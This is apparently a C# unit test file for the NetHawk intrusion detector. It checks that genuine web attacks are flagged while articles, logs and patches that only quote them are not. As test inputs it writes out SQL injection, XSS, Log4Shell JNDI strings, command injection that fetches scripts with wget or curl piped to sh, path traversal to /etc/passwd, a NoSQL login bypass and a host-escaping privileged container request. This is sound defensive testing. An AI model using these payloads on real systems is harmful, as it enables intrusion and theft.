using NetHawk.Core.Detectors;
using NetHawk.Core.Detectors.BruteForce;
using NetHawk.Core.Detectors.Exploit;
using NetHawk.Core.Detectors.WebAttack;

namespace NetHawk.Tests.Detectors;

/// <summary>What only speaks of an attack, and the attack itself beside it.</summary>
public class QuotedTextTests
{
    private const string Log = "{\"create\": {}}\n{\"message\": \"203.0.113.9 - - \\\"GET /?x=${jndi:ldap://192.0.2.4/a} HTTP/1.1\\\" 404 196\"}";

    /// <summary>A body of hundreds of strings does not buy hundreds of searches several times over.</summary>
    [Fact]
    public void Each_string_of_json_is_searched_once_and_only_those_with_something_in_them_again()
    {
        string[] strings = [.. Enumerable.Range(0, 200).Select(i => i == 150 ? "x EVIL" : "abc"), "a", "b"];
        int searches = 0;
        QuotedText.IsQuoted("[\"" + string.Join("\",\"", strings) + "\"]", text =>
        {
            searches++;
            return text.Contains("evil", StringComparison.Ordinal);
        });
        Assert.InRange(searches, 200, 210);
    }

    private static bool IsHit(string body) => WebPatterns.InBody(body, out bool quoted) != WebPattern.None && !quoted;

    [Theory]
    [InlineData("sql_query=SELECT+*+FROM+a+WHERE+id%3D1+UNION+SELECT+*+FROM+b", "id=1'+UNION+SELECT+*+FROM+b--")]
    [InlineData("{\"queries\": [{\"rawSql\": \"SELECT 1 OR 1=1\"}]}", "{\"name\": \"x' OR 1=1 -- \"}")]
    [InlineData("message=To+stop+injection+never+write+such+a+query%3A+an+attacker+sends+'+OR+'1'%3D'1'+and+is+in", "message=hello+dear+people+of+the+shop&name='+OR+'1'%3D'1'")]
    [InlineData("text=A+page+shows+<script>alert(1)</script>+when+it+does+not+escape+what+people+write", "text=<script>alert(1)</script>")]
    [InlineData("{\"body\": \"diff --git a/login.php\\n+<script>alert(1)</script>\"}", "{\"body\": \"<script>alert(1)</script>\"}")]
    [InlineData("#!/bin/sh\nwget -q http://mirror.example/tool; chmod +x tool", "name=x;wget+http://192.0.2.1/bins.sh")]
    [InlineData("{\"m\": \"GET /page1 HTTP/1.1\\\" 200 and more\"}\n{\"m\": \"GET /page2 HTTP/1.1\\\" 200 and more\"}\n{\"m\": \"<script>alert(1)</script> refused\"}", "{\"m\": \"GET /page1 HTTP/1.1\\\" 200 and more\", \"n\": \"<script>alert(1)</script>\"}")]
    [InlineData("{\"sql\": \"SELECT 1 OR 1=1\"}", "{\"a\": \"select \", \"b\": \"1' union select name from users --\"}")]
    [InlineData("sql=SELECT+'a'+UNION+SELECT+'b'", "name=select+'+UNION+SELECT+name+FROM+users--")]
    [InlineData("{\"message\": \"GET /?q=1' union select 2 HTTP/1.1\\\" 404\"}\n{\"message\": \"GET /?q=1' union select 2,", "name=1'+union+select+2,3--&note=+HTTP/1.1\"")]
    [InlineData(Log, "{\"message\": \"${jndi:ldap://192.0.2.4/a}\"}")]
    [InlineData("{\"title\": \"everything about the operators of this database\"}", "{\"title\": \"everything about the operators of this database\", \"password\": {\"$ne\": \"\"}}")]
    [InlineData("text=Seen+again%3A%0A%0A++<script>alert(1)</script>%0Aplease+look", "text=Seen+again%3A++<script>alert(1)</script>+please+look")]
    [InlineData("text=Postmortem%0A%0A++<script>alert(1)</script>%0Aand+more", "text=%3C%3E%0A%0A++<script>alert(1)</script>%0Aand+more")]
    [InlineData("{\"body\": \"How to reproduce\\n\\nid=1' union select 1,2 --\\nthen see\"}", "{\"body\": \"1' union select 1,2 --\\nHow to reproduce\\nthen see\"}")]
    [InlineData("text=How+to+reproduce%0D%0A'+or+'1'%3D'1%0D%0Athen+see", "text=How+to+reproduce%0D%0A1'+union%0D%0Aselect+1,2+--+%0D%0Athen+see")]
    [InlineData("{\"m\": \"203.0.113.9 - - [27/Nov/2026] \\\"GET /<script>alert(1)</script>", "{\"m\": \"203.0.113.9 - - [27/Nov/2026] <script>alert(1)</script>")]
    [InlineData("--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnote\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nHow to set it up on a new machine\r\n\r\ncurl -s http://192.0.2.4/x.sh | sh\r\nand then restart it\r\n--x9--", "--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnote\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\n1' union select name, password from users --\r\n--x9--")]
    [InlineData("--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnote\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nHow to set it up on a new machine\r\n\r\ncurl -s http://192.0.2.4/x.sh | sh\r\nand then restart it\r\n--x9--", "--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n1' union select 1,2 --\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nHow to set it up on a new machine\r\n\r\ncurl -s http://192.0.2.4/x.sh | sh\r\nand then restart it\r\n--x9--")]
    [InlineData("--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nA page that shows <script>alert(1)</script> when it does not escape what people write\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nhello\r\n--x9--", "--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nx\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\n<script>alert(1)</script>\r\n--x9--")]
    [InlineData("--x9\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nA page that shows <script>alert(1)</script> when it does not escape what people write\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nhello\r\n--x9--", "--x9\r\nContent-Disposition: form-data; name=\"title\"; filename=\"<script>alert(1)</script>\"\r\n\r\nhello there\r\n--x9\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\nhello\r\n--x9--")]
    public void Statements_articles_patches_scripts_and_logs_are_no_injections(string honest, string attack)
    {
        Assert.False(IsHit(honest));
        Assert.True(IsHit(attack));
    }

    [Theory]
    [InlineData("/search?q=how+to+use+union+select+in+sql&page=1", "/item?id=1+union+select+1,2&page=1")]
    [InlineData("/adminer.php?db=shop&sql=SELECT%201%20OR%201%3D1", "/adminer.php?db=1%20OR%201%3D1&sql=SELECT%201")]
    [InlineData("/?query=SELECT+table_name+FROM+information_schema.tables", "/?id=x'+AND+1=2+UNION+SELECT+table_name+FROM+information_schema.tables")]
    [InlineData("/search?q=%24%7Bjndi+lookup+log4j+explained", "/search?q=%24%7Bjndi%3Aldap%3A//192.0.2.4/a%7D")]
    [InlineData("/project/-/blob/main/etc/passwd.example", "/view?file=/etc/passwd")]
    [InlineData("/api?fields=name|id|price&page=1", "/ping?host=192.0.2.1|id&page=1")]
    [InlineData("/search?tags=dog%7Ccat", "/ping?host=x%3Bcat%20/etc/hosts")]
    [InlineData("/adminer.php?sql=select+1+union+select+2", "/run?cmd=set+x;cat+/etc/passwd")]
    [InlineData("/list?all&id&ping", "/run?x=1%26%26id")]
    [InlineData("/monitors?size=27%22", "/item?id=27'")]
    [InlineData("/page?part=../../shared/menu.js", "/page?part=../../../var/log/x")]
    [InlineData("/page?part=../../shared/menu.html&x=1", "/page?part=../../config.php")]
    public void Questions_in_words_and_statements_in_consoles_are_ordinary_targets(string honest, string attack)
    {
        Assert.Equal(WebPattern.None, WebPatterns.InTarget(honest));
        Assert.NotEqual(WebPattern.None, WebPatterns.InTarget(attack));
    }

    [Fact]
    public void A_shipper_of_logs_neither_exploits_nor_guesses()
    {
        Assert.Null(WebExploits.InBody(Log));
        Assert.NotNull(WebExploits.InBody("x=${jndi:ldap://192.0.2.4/a}"));
        Assert.False(LoginService.HasPassword("{\"message\": \"sshd: Failed password for invalid user admin from 203.0.113.9; GET /../../etc/passwd HTTP/1.1\"}"));
        Assert.True(LoginService.HasPassword("{\"user\": \"admin\", \"password\": \"x\"}"));
        Assert.True(LoginService.HasPassword("user=admin&passwd=x&note= HTTP/1.1\""));
    }

    [Fact]
    public void A_container_that_takes_the_host_over_is_no_article() =>
        Assert.NotNull(WebExploits.InBody("{\"Image\": \"alpine\", \"Cmd\": [\"chroot\", \"/mnt\", \"sh\"], \"HostConfig\": {\"Binds\": [\"/:/mnt\"], \"Privileged\": true}}"));

    [Theory]
    [InlineData("sqlmap/1.8.2#stable (https://sqlmap.org)", true)]
    [InlineData("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", true)]
    [InlineData("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", true)]
    [InlineData("Mozilla/5.0 zgrab/0.x", true)]
    [InlineData("MangaGrabber/2.0", false)]
    [InlineData("NucleicViewer/1.4", false)]
    public void Scanners_are_known_by_whole_words(string agent, bool isTool) => Assert.Equal(isTool ? WebPattern.Tool : WebPattern.None, WebPatterns.InAgent(agent));
}
